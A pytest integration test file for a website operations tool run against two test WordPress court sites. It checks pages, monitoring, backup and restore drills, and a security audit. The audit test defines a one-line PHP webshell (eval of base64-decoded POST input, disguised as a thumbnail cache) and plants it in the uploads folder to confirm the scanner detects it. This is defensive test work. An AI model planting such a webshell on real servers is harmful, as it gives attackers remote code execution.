"""Courts on WordPress (Debian's package) on nginx and on Apache: the real site as the court image sets
it up (config-<domain>.php, the database in the court's MariaDB, posts, pages, a PDF in the media
library, pretty permalinks), and SOP W1 reading it: front page, feed, WordPress's sitemap index and
its child sitemaps, freshness from the newest post. W2 and W8 on it: the snapshot holds the database,
wp-content (whose themes and plugins link into /usr/share/wordpress) and /etc/wordpress; the drill
restores them onto the other WordPress court and renders the login page and the newest post. IT-AUDIT
and W6 on it: WordPress's core version (Debian's package, judged by Debian 12's support), its plugins
and themes with their versions, a webshell in the uploads folder and a file added to the packaged code
found, and the diagnosis naming the web server, PHP, MariaDB and WordPress."""

from __future__ import annotations

import base64
import json
import os
import re
import shutil
import ssl
import subprocess
import sys
import time
import urllib.error
import urllib.request
from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from ansible_collections.pn.website.plugins.module_utils.appsec import eol_data
from sopansible.cli import main
from sopansible.report.render import render_reports
from sopansible.store import HistoryStore
from tests import fleet as fleet_lib
from tests.integration.sop_playbook import run_sop_playbook

pytestmark = pytest.mark.fleet


@pytest.fixture(scope="module")
def wp(tmp_path_factory):
    """Two WordPress courts: pn-tais on nginx, pn-bangil on Apache, one backup disk seen by both (the
    drill host reads the court's repository, as a disaster-recovery host does)."""
    name = f"wp{os.getpid()}"
    disk = tmp_path_factory.mktemp("wp-disk")
    started = time.monotonic()
    try:
        running = fleet_lib.start(
            name,
            count=2,
            webservers=["nginx", "apache"],
            cms="wordpress",
            podman_args=["-v", f"{disk}:/var/backups/pn-website"],
        )
    except fleet_lib.FleetError as error:
        fleet_lib.remove(name)
        pytest.fail(f"the WordPress fleet did not start: {error}")
    print(f"\nWordPress fleet of 2 courts ready in {time.monotonic() - started:.1f}s")
    yield running
    fleet_lib.remove(name)
    shutil.rmtree(running.directory, ignore_errors=True)


def get(fleet, court, path: str) -> tuple[int, dict, bytes]:
    """GET over HTTPS from the court's loopback address with its Host header (the fleet CA verifies)."""
    context = ssl.create_default_context(cafile=str(fleet.directory / "ca.pem"))
    context.check_hostname = False  # the address is no name of the certificate; the CA still signs it

    class NoRedirect(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, *args, **kwargs):
            return None

    opener = urllib.request.build_opener(NoRedirect, urllib.request.HTTPSHandler(context=context))
    request = urllib.request.Request(f"https://{court.address}{path}", headers={"Host": court.domain})
    try:
        with opener.open(request, timeout=20) as response:
            return response.status, dict(response.headers), response.read()
    except urllib.error.HTTPError as error:
        return error.code, dict(error.headers), error.read()


PUBLISHED_POSTS = "post_type='post' AND post_status='publish'"


def option(fleet, court, name: str) -> str:
    return sql(fleet, court, f"SELECT option_value FROM wp_options WHERE option_name='{name}'")


def sql(fleet, court, query: str) -> str:
    return fleet.exec(court.name, f'mysql -N -B wordpress -e "{query}"').stdout.strip()


def newest_post(fleet, court) -> datetime:
    value = sql(fleet, court, f"SELECT MAX(post_date_gmt) FROM wp_posts WHERE {PUBLISHED_POSTS}")
    return datetime.fromisoformat(value).replace(tzinfo=UTC)


def find(value: Any, key: str) -> Any:
    """The first value of KEY anywhere in a nested state."""
    if isinstance(value, dict):
        if key in value:
            return value[key]
        value = list(value.values())
    if isinstance(value, list):
        for item in value:
            found = find(item, key)
            if found is not None:
                return found
    return None


def test_wordpress_is_debians_package_configured_for_the_court(wp):
    for court in wp.courts:
        assert court.cms == "wordpress" and court.vars()["court_cms"] == "wordpress"
        version = wp.exec(court.name, "dpkg-query -W -f '${Version}' wordpress").stdout
        assert version.startswith("6.1."), version
        config = f"/etc/wordpress/config-{court.domain}.php"
        owner = wp.exec(court.name, f"stat -c '%U:%G %a' {config}").stdout.strip()
        assert owner == "root:www-data 640"
        assert "define('DB_NAME', 'wordpress')" in wp.exec(court.name, f"cat {config}").stdout
        assert option(wp, court, "blogname") == court.court_name
        assert option(wp, court, "permalink_structure") == "/%year%/%monthnum%/%postname%/"
        counts = sql(
            wp,
            court,
            "SELECT post_type, COUNT(*) FROM wp_posts WHERE post_status IN ('publish','inherit') "
            "GROUP BY post_type ORDER BY post_type",
        )
        assert counts.split("\n") == ["attachment\t1", "page\t3", "post\t3"]
        # The custom court site is not set up on a WordPress court.
        assert wp.exec(court.name, "test -e /var/www/court/config.php", check=False).returncode == 1


def test_the_site_pages_permalinks_feed_sitemap_media_and_login(wp):
    for court in wp.courts:
        status, _headers, body = get(wp, court, "/")
        home = body.decode()
        assert status == 200 and court.court_name in home
        assert f'href="https://{court.domain}/feed/"' in home
        post = newest_post(wp, court)
        slug = sql(
            wp,
            court,
            f"SELECT post_name FROM wp_posts WHERE {PUBLISHED_POSTS} ORDER BY post_date_gmt DESC LIMIT 1",
        )
        permalink = f"/{post:%Y}/{post:%m}/{slug}/"
        assert f"https://{court.domain}{permalink}" in home  # pretty permalinks on the front page
        status, _headers, body = get(wp, court, permalink)
        assert status == 200 and "Laporan Tahunan Telah Terbit" in body.decode()
        status, _headers, body = get(wp, court, "/layanan-ptsp/")
        assert status == 200 and "Pelayanan Terpadu Satu Pintu" in body.decode()
        status, headers, body = get(wp, court, "/feed/")
        assert status == 200 and "<rss" in body.decode()[:500]
        status, _headers, body = get(wp, court, "/wp-sitemap.xml")
        assert status == 200 and "<sitemapindex" in body.decode()
        status, _headers, body = get(wp, court, "/wp-sitemap-posts-post-1.xml")
        assert status == 200 and f"https://{court.domain}{permalink}" in body.decode()
        media = sql(wp, court, "SELECT guid FROM wp_posts WHERE post_type='attachment'")
        assert media.startswith(f"https://{court.domain}/wp-content/uploads/") and media.endswith(".pdf")
        status, headers, body = get(wp, court, media.split(court.domain, 1)[1])
        assert status == 200 and body.startswith(b"%PDF-")
        status, _headers, body = get(wp, court, "/wp-login.php")
        assert status == 200 and 'name="log"' in body.decode()
        # Nothing in wp-content runs as PHP.
        wp.exec(court.name, "echo '<?php echo 6*7;' > /var/lib/wordpress/wp-content/uploads/probe.php")
        status, _headers, body = get(wp, court, "/wp-content/uploads/probe.php")
        assert status == 403 and b"42" not in body


def test_w1_reads_the_wordpress_site(wp, tmp_path, monkeypatch):
    data = tmp_path / "data"
    monkeypatch.setenv("SOPANSIBLE_DATA", str(data))
    started = time.monotonic()
    assert main(["run", "sop_monitor", "-i", str(wp.inventory)]) in (0, 1, 2)
    print(f"\nW1 on 2 WordPress courts: {time.monotonic() - started:.1f}s")
    store = HistoryStore(data / "history.sqlite")
    try:
        results = {court: found["W1"] for court, found in store.latest_all().items()}
        state = store.state("monitor")
    finally:
        store.close()
    assert set(results) == {court.name for court in wp.courts}
    for court in wp.courts:
        result = results[court.name]
        outputs = result["outputs"]
        assert result["status"] == "ok", result
        assert outputs["status"] == 200 and outputs["keyword_found"] is True
        assert outputs["final_url"] == f"https://{court.domain}/"
        assert outputs["tls_valid"] is True
        assert outputs["feed_url"] == f"https://{court.domain}/feed/"
        assert outputs["sitemap_url"] == f"https://{court.domain}/wp-sitemap.xml"
        # over the index's child sitemaps: 3 posts, the front page and 3 pages, the category, the author
        assert outputs["sitemap_entries"] == 9
        # freshness from the newest post, two days old, read from the feed
        assert outputs["content_source"] == "feed"
        newest = datetime.fromisoformat(outputs["content_newest"].replace("Z", "+00:00"))
        assert newest == newest_post(wp, court)
        assert outputs["content_age_days"] == pytest.approx(2.0, abs=0.1)
        # www.<domain> is WordPress's canonical redirect to the court's domain, followed to a 200
        assert [(h["host"], h["reachable"], h["status"]) for h in outputs["hostnames"]] == [
            (f"www.{court.domain}", True, 200)
        ]
        # the post's permalink and the pages are in the published URL baseline W1 keeps
        urls = find(state.get(court.name), "sitemap_urls") or []
        post = newest_post(wp, court)
        assert any(url.startswith(f"https://{court.domain}/{post:%Y}/{post:%m}/") for url in urls), urls
        assert f"https://{court.domain}/layanan-ptsp/" in urls


COURT, SCRATCH = "pn-tais", "pn-bangil"
DRILL_TITLE = "Putusan Uji Pemulihan Situs WordPress"


def test_w2_backs_up_and_w8_drills_the_wordpress_court(wp, tmp_path):
    court, scratch = wp.court(COURT), wp.court(SCRATCH)
    # a new newest post and an upload, so that what the drill renders can only come from this backup
    sql(
        wp,
        court,
        f"UPDATE wp_posts SET post_title='{DRILL_TITLE}' WHERE {PUBLISHED_POSTS} "
        "ORDER BY post_date_gmt DESC LIMIT 1",
    )
    wp.exec(COURT, "echo 'bukti pemulihan' > /var/lib/wordpress/wp-content/uploads/bukti-drill.txt")
    extra = tmp_path / "drill.yml"
    extra.write_text(
        "all:\n  children:\n    courts:\n      children:\n        court_servers:\n          hosts:\n"
        f"            {SCRATCH}: {{pn_backup_enabled: false, pn_restore_scratch: true}}\n"
    )
    inventories = ("-i", str(wp.inventory), "-i", str(extra))

    started = time.monotonic()
    code, output, results = run_sop_playbook("sop_backup.yml", tmp_path, *inventories, "--limit", COURT)
    print(f"\nW2 on the WordPress court: {time.monotonic() - started:.1f}s")
    assert code == 0, output[-3000:]
    backup = results[COURT]
    assert backup["status"] == "ok", backup
    restic = (
        "RESTIC_PASSWORD_FILE=/etc/pn-website/backup.pass RESTIC_CACHE_DIR=/tmp/restic-cache "
        f"restic -r /var/backups/pn-website/{COURT}"
    )
    listing = wp.exec(COURT, f"{restic} ls latest").stdout.split("\n")
    assert f"/etc/wordpress/config-{court.domain}.php" in listing
    assert "/var/lib/wordpress/wp-content/uploads/bukti-drill.txt" in listing
    assert "/var/lib/wordpress/wp-content/plugins/akismet" in listing  # the link into the package
    dump = wp.exec(COURT, f"{restic} dump latest /var/lib/pn-website/backup-staging/database.sql").stdout
    assert DRILL_TITLE in dump and "CREATE TABLE `wp_posts`" in dump

    # without the package's folder as a link target, the links of wp-content refuse the snapshot
    code, output, results = run_sop_playbook(
        "sop_restore_drill.yml",
        tmp_path,
        *inventories,
        "--limit",
        f"{COURT},{SCRATCH}",
        "-e",
        json.dumps({"pn_restore_drill_host": SCRATCH, "pn_restore_link_targets": []}),
    )
    refused = results[COURT]
    assert refused["status"] == "failed" and "points outside" in refused["summary"], refused
    assert "/usr/share/wordpress" in refused["summary"]
    status, _headers, body = get(wp, SimpleNamespace(address=scratch.address, domain=court.domain), "/")
    assert DRILL_TITLE not in body.decode()  # nothing was put in place

    started = time.monotonic()
    code, output, results = run_sop_playbook(
        "sop_restore_drill.yml",
        tmp_path,
        *inventories,
        "--limit",
        f"{COURT},{SCRATCH}",
        "-e",
        f"pn_restore_drill_host={SCRATCH}",
    )
    print(f"W8 restore drill of the WordPress court: {time.monotonic() - started:.1f}s")
    assert code == 0, output[-3000:]
    drill = results[COURT]
    assert drill["activity"] == "IT-DRILL" and drill["status"] == "ok", drill
    outputs = drill["outputs"]
    assert outputs["restored_to"] == SCRATCH and outputs["webroot"] == "/var/lib/wordpress/wp-content"
    # index.php, the PDF of the media library and the new upload (themes and plugins are links)
    assert outputs["files_verified"] >= 3 and outputs["tables_verified"] >= 12
    assert outputs["config_restored"] == ["/etc/wordpress"]
    post = newest_post(wp, court)
    assert outputs["pages_checked"][0] == "/wp-login.php"
    assert outputs["pages_checked"][1].startswith(f"/{post:%Y}/{post:%m}/") and outputs["pages_failed"] == []
    assert outputs["http_status"] == 200 and outputs["keyword_found"] is True
    # the scratch court now serves the court's site: its configuration (root:www-data 0640), database,
    # wp-content with the links into Debian's package
    config = f"/etc/wordpress/config-{court.domain}.php"
    assert wp.exec(SCRATCH, f"stat -c '%U:%G %a' {config}").stdout.strip() == "root:www-data 640"
    assert wp.exec(SCRATCH, "readlink /var/lib/wordpress/wp-content/plugins/akismet").stdout.strip() == (
        "/usr/share/wordpress/wp-content/plugins/akismet"
    )
    restored = SimpleNamespace(address=scratch.address, domain=court.domain)
    status, _headers, body = get(wp, restored, "/")
    assert status == 200 and DRILL_TITLE in body.decode() and court.court_name in body.decode()
    status, _headers, body = get(wp, restored, "/wp-content/uploads/bukti-drill.txt")
    assert status == 200 and body == b"bukti pemulihan\n"
    # nothing of the repository access stays on the scratch court
    assert wp.exec(SCRATCH, "ls /etc/pn-website", check=False).stdout.split() in ([], ["known_hosts"])


WEBSHELL = "<?php @eval(base64_decode($_POST['k'])); // thumbnail cache\n"
CORE = "/usr/share/wordpress"
UPLOADS = "/var/lib/wordpress/wp-content/uploads"


def sopansible(data, *args: str) -> dict:
    """`sopansible ARGS --json` with its history in DATA; its JSON answer."""
    proc = subprocess.run(
        [str(Path(sys.executable).parent / "sopansible"), "--lang", "id", *args, "--json"],
        capture_output=True,
        text=True,
        cwd=fleet_lib.ROOT,
        env=dict(os.environ, SOPANSIBLE_DATA=str(data)),
        check=False,
    )
    try:
        return json.loads(proc.stdout)
    except ValueError:
        pytest.fail(f"sopansible {args[0]} printed no JSON (rc {proc.returncode}): {proc.stderr[-3000:]}")


def header(fleet, court, path: str, field: str) -> str:
    """FIELD of a WordPress file header on the court, read with grep (not the audit's reader)."""
    line = fleet.exec(court.name, f"grep -m1 -i '^{field}:' {path}").stdout
    return line.split(":", 1)[1].strip()


def test_audit_and_diagnosis_of_the_wordpress_courts(wp, tmp_path):
    """IT-AUDIT on both WordPress courts reads WordPress 6.1 from Debian's package in /usr/share/wordpress
    (the web root is wp-content) and judges it by Debian 12's support, lists akismet, the theme and the
    image's must-use plugin with the versions their files carry, and finds nothing changed in a clean
    court (the packaged code checked against dpkg, wp-content against the backup's manifest or the scan's
    baseline). A webshell then dropped in the uploads folder, a file added to the packaged code and a
    core file edited are each found with their paths; the SOP report shows the core, its basis and the
    plugins. W6 names the web server, PHP, MariaDB and WordPress from the court's own evidence."""
    data = tmp_path / "data"
    debian12 = dict((c["cycle"], c["eol"]) for c in eol_data.DATA["distributions"]["debian"])["12"]
    # the uploads probe another test of this module leaves behind
    for each in wp.courts:
        wp.exec(each.name, f"rm -f {UPLOADS}/probe.php")

    started = time.monotonic()
    first = sopansible(data, "audit", "-i", str(wp.inventory), "--areas", "cms")
    print(f"\nIT-AUDIT (cms area, appsec) of 2 WordPress courts: {time.monotonic() - started:.1f}s")
    rows = {row["court"]: row for row in first["courts"]}
    assert set(rows) == {c.name for c in wp.courts}
    for each in wp.courts:
        row = rows[each.name]
        package = wp.exec(each.name, "dpkg-query -W -f '${Version}' wordpress").stdout.strip()
        software = {item["product"]: item for item in row["appsec"]["software"]}
        core = software["wordpress"]
        assert core["version"] == package.split("+", 1)[0] and core["package"] == package
        assert core["basis"] == "distribution" and core["distribution"] == "debian 12"
        assert core["eol"] == debian12 and core["status"] == "supported" and core["upstream_eol"] is None
        assert row["appsec"]["cms"]["file"] == f"{CORE}/wp-includes/version.php"
        assert (
            software["php"]["version"].startswith("8.2.") and software["mariadb"]["basis"] == "distribution"
        )

        extensions = row["appsec"]["extensions"]
        assert extensions["content_dir"] == "/var/lib/wordpress/wp-content" and not extensions["truncated"]
        plugins = {(p["slug"], p["name"], p["version"], p["link"]) for p in extensions["plugins"]}
        akismet = f"{CORE}/wp-content/plugins/akismet"
        assert plugins == {
            (
                "akismet",
                header(wp, each, f"{akismet}/akismet.php", "Plugin Name"),
                header(wp, each, f"{akismet}/akismet.php", "Version"),
                akismet,
            )
        }
        themes = {(t["slug"], t["version"]) for t in extensions["themes"]}
        style = f"{CORE}/wp-content/themes/twentytwentyone/style.css"
        assert themes == {("twentytwentyone", header(wp, each, style, "Version"))}
        assert [m["slug"] for m in extensions["mu_plugins"]] == ["pn-court-offline"]

        # a clean court: nothing of WordPress's own is flagged
        assert row["appsec_findings"] == [], row["appsec_findings"]
        scan = row["appsec"]["scan"]
        assert scan["complete"] and scan["reference"]["kind"] in ("backup-manifest", "baseline")
        assert sorted(scan["symlinks_out"]) == [
            "plugins/akismet",
            "plugins/index.php",
            "themes/twentytwentyone",
        ]
        code = scan["code"]
        assert code["root"] == CORE and code["complete"] and code["files_scanned"] > 1000
        assert {p["name"]: p["version"] for p in code["packages"]}["wordpress"] == package
        assert (code["changed_count"], code["added_count"], code["webshells_count"]) == (0, 0, 0)
        controls = {c["id"]: c for c in row["controls"]}
        config = f"/etc/wordpress/config-{each.domain}.php"
        assert controls["cms-config-perms"]["status"] == "pass"
        assert controls["cms-config-perms"]["observed"] == f"{config} 0640"

    month = datetime.now(UTC).strftime("%Y/%m")
    shell = f"{UPLOADS}/{month}/thumb-cache.php"
    added = f"{CORE}/wp-includes/class-wp-thumb-cache.php"
    try:
        wp.exec(COURT, f"cp -p {CORE}/wp-includes/load.php /root/load.php.orig")
        wp.exec(
            COURT,
            f"mkdir -p {UPLOADS}/{month} && echo {base64.b64encode(WEBSHELL.encode()).decode()} | base64 -d"
            f" > {shell} && chown www-data: {shell}"
            f" && echo '<?php echo 1;' > {added} && echo '// edited' >> {CORE}/wp-includes/load.php",
        )
        second = sopansible(data, "audit", "-i", str(wp.inventory), "--areas", "cms", "--limit", COURT)
        (row,) = second["courts"]
        found = {}
        for finding in row["appsec_findings"]:
            found.setdefault(finding["rule"], []).append(finding)
        assert sorted(found) == ["upload-php-file", "webroot-changed", "webroot-webshell"], found
        relative = f"uploads/{month}/thumb-cache.php"
        (webshell,) = found["webroot-webshell"]
        assert webshell["severity"] == "critical"
        assert webshell["evidence"]["files"] == [
            {"path": relative, "markers": ["eval-decoded"], "size_bytes": len(WEBSHELL)}
        ]
        (in_uploads,) = found["upload-php-file"]
        assert in_uploads["evidence"]["files"] == [relative]
        changes = {f["evidence"]["kind"]: f["evidence"] for f in found["webroot-changed"]}
        assert set(changes) in ({"package", "backup-manifest"}, {"package", "baseline"})
        (content,) = [e for kind, e in changes.items() if kind != "package"]
        assert content["added"] == [relative] and content["changed"] == []
        assert changes["package"]["added"] == [added]
        assert changes["package"]["changed"] == [f"{CORE}/wp-includes/load.php"]

        with HistoryStore(data / "history.sqlite") as history:
            render_reports(history, tmp_path / "out")
        report = json.loads((tmp_path / "out" / COURT / "laporan.json").read_text(encoding="utf-8"))
        view = next(a for a in report["activities"] if a["id"] == "IT-AUDIT")
        (appsec,) = view["tables"]
        shown = dict((part, value) for part, value in appsec["rows"])
        core_row = shown[f"WordPress {row['appsec']['cms']['version']}"]
        assert core_row.startswith(f"akhir dukungan {debian12} (dukungan rilis debian 12) (masih didukung)")
        assert re.match(r"Akismet Anti-Spam \d[\d.]* *$", shown["Plugin WordPress"]), shown[
            "Plugin WordPress"
        ]
        assert shown["Tema WordPress"].startswith("Twenty Twenty-One ")
        assert shown["Kode CMS dari paket"].startswith(f"{CORE} (wordpress ")
        assert "1 berubah, 1 baru" in shown["Kode CMS dari paket"]
        assert shown["PHP di folder unggahan"] == relative

        # W6 while the webshell is there: the court's own evidence names its parts
        started = time.monotonic()
        diagnosis = sopansible(data, "diagnose", "-i", str(wp.inventory), "--no-report")
        print(f"W6 of 2 WordPress courts: {time.monotonic() - started:.1f}s")
        assert set(diagnosis["courts"]) == {c.name for c in wp.courts}
        with HistoryStore(data / "history.sqlite") as history:
            for each in wp.courts:
                w6 = history.latest(each.name)["W6"]
                assert w6["status"] in ("ok", "warning", "critical"), w6
                server = w6["outputs"]["evidence"]["server"]
                assert server["webserver"] == each.webserver
                assert server["php_version"].startswith("8.2.")
                assert server["db_version"]["product"] == "mariadb"
                assert server["cms"]["cms"] == "wordpress" and server["cms"]["root"] == CORE
                assert server["cms"]["version"] == rows[each.name]["appsec"]["cms"]["version"]
                roles = {s["role"]: s["running"] for s in server["services"].values()}
                assert roles == {"webserver": True, "php-fpm": True, "database": True}
                if each.name == COURT:
                    recent = [f["path"] for f in server["recent_webroot_changes"]["files"]]
                    assert shell in recent
    finally:
        wp.exec(
            COURT,
            f"rm -f {shell} {added}; cp -p /root/load.php.orig {CORE}/wp-includes/load.php",
            check=False,
        )
